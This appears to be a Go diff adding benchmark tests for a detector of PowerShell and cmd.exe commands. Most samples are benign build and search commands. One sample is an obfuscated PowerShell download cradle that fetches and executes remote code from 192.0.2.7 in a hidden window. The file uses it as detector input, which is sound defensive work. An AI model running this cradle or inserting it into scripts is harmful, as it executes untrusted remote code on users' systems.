@@ -63,3 +63,39 @@ func script200() string {
 	}
 	return b.String()
 }
+
+// BenchmarkDetectPowerShellOneLine is a one-line PowerShell command (target: 50 µs).
+func BenchmarkDetectPowerShellOneLine(b *testing.B) {
+	benchDetect(b, `Get-ChildItem -Path .\src -Recurse -Filter *.cs | Select-String -Pattern "TODO" | Select-Object -First 20`)
+}
+
+// BenchmarkDetectPowerShellObfuscated is an obfuscated download cradle.
+func BenchmarkDetectPowerShellObfuscated(b *testing.B) {
+	benchDetect(b, `powershell -nop -w hidden -c "$u='ht'+'tp://192.0.2.7/a';&('i'+'ex') ((New-Object Net.WebClient).('Down'+'loadString')($u))"`)
+}
+
+// BenchmarkDetectCmdOneLine is a one-line cmd.exe command.
+func BenchmarkDetectCmdOneLine(b *testing.B) {
+	benchDetect(b, `cmd /c "cd /d C:\src\app && msbuild App.sln /p:Configuration=Release > build.log 2>&1"`)
+}
+
+// BenchmarkDetectPowerShellScript200 is a 200-line PowerShell script (target: 5 ms).
+func BenchmarkDetectPowerShellScript200(b *testing.B) {
+	lines := []string{
+		`$ErrorActionPreference = 'Stop'`,
+		`$root = Join-Path $PSScriptRoot 'build'`,
+		`if (-not (Test-Path $root)) { New-Item -ItemType Directory -Path $root | Out-Null }`,
+		`Get-ChildItem -Path .\src -Filter *.csproj -Recurse | ForEach-Object { dotnet build $_.FullName -c Release }`,
+		`$version = (Get-Content .\version.txt -Raw).Trim()`,
+		`Write-Host "Building $version" -ForegroundColor Green`,
+		`Invoke-WebRequest -Uri https://example.org/tool.zip -OutFile "$root\tool.zip"`,
+		`Expand-Archive -Path "$root\tool.zip" -DestinationPath "$root\tool" -Force`,
+		`$params = @{ Path = "$root\out"; Recurse = $true; Force = $true }`,
+		`Remove-Item @params -ErrorAction SilentlyContinue`,
+	}
+	var sb strings.Builder
+	for i := 0; i < 200; i++ {
+		fmt.Fprintln(&sb, lines[i%len(lines)])
+	}
+	benchDetect(b, sb.String())
+}
